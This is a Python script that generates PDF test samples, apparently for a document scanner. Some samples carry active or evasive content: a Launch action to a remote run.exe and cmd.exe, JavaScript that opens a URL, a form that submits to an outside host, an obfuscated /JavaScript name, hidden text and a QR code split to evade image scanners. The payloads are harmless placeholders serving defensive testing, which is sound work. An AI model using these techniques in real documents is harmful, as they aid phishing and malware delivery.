#!/usr/bin/env python3
"""Makes the PDF samples under pdf/, by programs that are not ours: reportlab, pikepdf, qpdf, LibreOffice, Ghostscript.

    apt-get install qpdf ghostscript libreoffice-writer; pip install reportlab pikepdf qrcode
    python3 make_pdf.py

The samples are kept beside this script; it is run again only to change them. Nothing in them does harm.
"""
import io
import os
import pathlib
import shutil
import subprocess
import tempfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from reportlab.graphics import renderPDF
from reportlab.graphics.barcode.qr import QrCodeWidget
from reportlab.graphics.shapes import Drawing
from reportlab.lib.colors import black, white
from reportlab.pdfgen import canvas

OUT = pathlib.Path(__file__).parent / "pdf"
OUT.mkdir(exist_ok=True)


def page(draw, **more):
    out = io.BytesIO()
    paper = canvas.Canvas(out, pagesize=(595, 842), invariant=1, **more)
    draw(paper)
    paper.showPage()
    paper.save()
    return out.getvalue()


def letter(paper):
    paper.setTitle("Quarterly letter")
    paper.setAuthor("Accounts")
    paper.setFont("Helvetica", 12)
    paper.drawString(72, 760, "Dear customer, your statement is ready.")
    paper.drawString(72, 740, "Visit our site for details")
    paper.linkURL("https://portal.example/login?id=1", (72, 736, 230, 752))
    paper.setFont("Times-Bold", 12)
    paper.drawString(72, 720, "Total due: 1,024.00 EUR")
    paper.setFillColor(black)
    paper.rect(72, 600, 200, 30, fill=1)
    paper.setFillColor(white)
    paper.drawString(80, 610, "White words on a dark bar")


def split(paper):
    paper.setFont("Helvetica", 12)
    x = 72
    for character in "4111111111111111":
        paper.drawString(x, 700, character)
        x += paper.stringWidth(character, "Helvetica", 12)
    # The same in an order that is not that of the eye.
    places = []
    x = 72
    for character in "password reset":
        places.append((x, character))
        x += paper.stringWidth(character, "Helvetica", 12)
    for x, character in places[::2] + places[1::2]:
        paper.drawString(x, 660, character)


def hidden(paper):
    paper.setFont("Helvetica", 12)
    paper.drawString(72, 760, "Seen line")
    paper.setFillColor(white)
    paper.drawString(72, 740, "white on paper")
    paper.setFillColor(black)
    paper.setFont("Helvetica", 0.4)
    paper.drawString(72, 720, "tiny letters")
    paper.setFont("Helvetica", 12)
    paper.drawString(72, 5000, "far above the page")
    text = paper.beginText(72, 700)
    text.setTextRenderMode(3)
    text.textLine("mode three")
    paper.drawText(text)


def drawn_code(paper):
    code = QrCodeWidget("https://qr.example/from-boxes")
    drawing = Drawing(200, 200)
    drawing.add(code)
    renderPDF.draw(drawing, paper, 100, 400)


def write(name, data):
    (OUT / name).write_bytes(data)
    assert len(data) < 40_000, (name, len(data))


def qpdf(name, source, *options):
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder)
        (path / "in.pdf").write_bytes(source)
        subprocess.run(["qpdf", *options, path / "in.pdf", path / "out.pdf"], check=True)
        write(name, (path / "out.pdf").read_bytes())


def active():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 300))
    root = pdf.Root
    pdf.pages[0].Annots = pdf.make_indirect(Array([
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
            A=Dictionary(S=Name.Launch, F=String("\\\\198.51.100.7\\share\\run.exe"),
                Win=Dictionary(F=String("cmd.exe"), P=String("/c echo hello"))))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
            A=Dictionary(S=Name.GoToR, F=Dictionary(Type=Name.Filespec, F=String("//files.example/other.pdf"))))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=[0, 0, 9, 9],
            Contents=String("A note to see https://note.example/x"))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])),
    ]))
    root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('opened'); app.launchURL('https://script.example/a');"))
    script = pdf.make_stream(b"this.getField('a').value = 1;")
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), Dictionary(S=Name.JavaScript, JS=script)])))
    xfa = pdf.make_stream(b'<?xml version="1.0"?><template><draw>Words of the form</draw><script contentType="application/x-javascript">app.alert("form");</script></template>')
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("card"), V=String("Filled in"), Subtype=Name.Widget, Rect=[0, 0, 9, 9],
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("AFNumber_Keystroke(2);")))))
    button = pdf.make_indirect(Dictionary(FT=Name.Btn, T=String("send"), Subtype=Name.Widget, Rect=[0, 0, 9, 9],
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://collect.example/post")))))
    root.AcroForm = Dictionary(Fields=Array([field, button]), XFA=xfa)
    pdf.attachments["invoice.txt"] = pikepdf.AttachedFileSpec(pdf, b"words of the embedded file", filename="invoice.txt")
    out = io.BytesIO()
    pdf.save(out, deterministic_id=True)
    data = out.getvalue()
    # Names may be written with escapes.
    return data.replace(b"/JavaScript", b"/J#61vaScript")


def picture():
    def draw(paper):
        from PIL import Image
        image = Image.new("L", (64, 48), 200)
        image.paste(0, (8, 8, 30, 30))
        path = OUT / "picture.png"
        image.save(path)
        paper.drawImage(str(path), 72, 600)
        path.unlink()
        image = Image.new("RGB", (40, 40), (200, 10, 10))
        path = OUT / "picture.jpg"
        image.save(path)
        paper.drawImage(str(path), 72, 500)
        path.unlink()
    return page(draw, pageCompression=1)


def split_code():
    """A code in four pieces, as mail does it to pass scanners of pictures."""

    def draw(paper):
        import qrcode

        code = qrcode.make("https://qr.example/in-pieces", box_size=4).convert("L")
        half = code.width // 2
        for x in (0, half):
            for y in (0, half):
                path = OUT / f"piece-{x}-{y}.png"
                code.crop((x, y, x + half, y + half)).save(path)
                # Rows of the page count from below.
                paper.drawImage(str(path), 100 + x, 500 + half - y, half, half)
                path.unlink()

    return page(draw, pageCompression=1)


def revisions():
    first = page(lambda paper: paper.drawString(72, 700, "words of the first revision"), pageCompression=0)
    # An update as editors append it: the content stream anew, a short table, a trailer that points back.
    start = first.rindex(b"startxref")
    previous = int(first[start:].split()[1])
    objects = {}
    import re
    for match in re.finditer(rb"(\d+) 0 obj\s*<<.*?endobj", first, re.S):
        objects[int(match[1])] = match
    number = next(n for n, m in objects.items() if b"stream" in m[0] and b"BT" in m[0])
    content = b"BT /F1 12 Tf 72 700 Td (words of the second revision) Tj ET"
    body = b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (number, len(content), content)
    root = re.search(rb"/Root (\d+ 0 R)", first)[1]
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, len(first))
    trailer = b"trailer\n<< /Root %s /Size 99 /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (root, previous, len(first) + len(body))
    return first + body + table + trailer


def office(name, text, *filters):
    if not shutil.which("soffice"):
        return
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder)
        (path / "in.html").write_text(text)
        environment = dict(os.environ, HOME=folder)
        subprocess.run(["soffice", "--headless", "--convert-to", "pdf:writer_web_pdf_Export", "--outdir", folder, path / "in.html"],
            check=True, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        write(name, (path / "in.pdf").read_bytes())


def ghostscript(name, source):
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder)
        (path / "in.pdf").write_bytes(source)
        subprocess.run(["gs", "-q", "-dNOPAUSE", "-dBATCH", "-sDEVICE=pdfwrite", f"-sOutputFile={path / 'out.pdf'}", path / "in.pdf"], check=True)
        write(name, (path / "out.pdf").read_bytes())


plain = page(letter)
write("reportlab.pdf", plain)
write("split.pdf", page(split))
write("hidden.pdf", page(hidden))
write("drawn_code.pdf", page(drawn_code, pageCompression=1))
write("active.pdf", active())
write("picture.pdf", picture())
write("split_code.pdf", split_code())
write("revisions.pdf", revisions())
qpdf("linearized.pdf", plain, "--linearize")
qpdf("object_streams.pdf", active().replace(b"/J#61vaScript", b"/JavaScript"), "--object-streams=generate")
weak = "--allow-weak-crypto"
qpdf("rc4_40.pdf", plain, weak, "--encrypt", "Sommer2024", "owner", "40", "--")
qpdf("rc4_128.pdf", plain, weak, "--encrypt", "", "owner", "128", "--use-aes=n", "--")
qpdf("aes_128.pdf", plain, weak, "--encrypt", "Sommer2024", "owner", "128", "--use-aes=y", "--")
qpdf("aes_256_r5.pdf", plain, weak, "--encrypt", "Sommer2024", "owner", "256", "--force-R5", "--")
qpdf("aes_256.pdf", plain, "--object-streams=generate", "--encrypt", "Sommer2024", "owner", "256", "--")
ghostscript("ghostscript.pdf", plain)
office("libreoffice.pdf", "<h1>Report</h1><p>Grüße aus Köln, see <a href='https://doc.example/more'>the report</a>.</p><ul><li>One</li><li>Two</li></ul>")
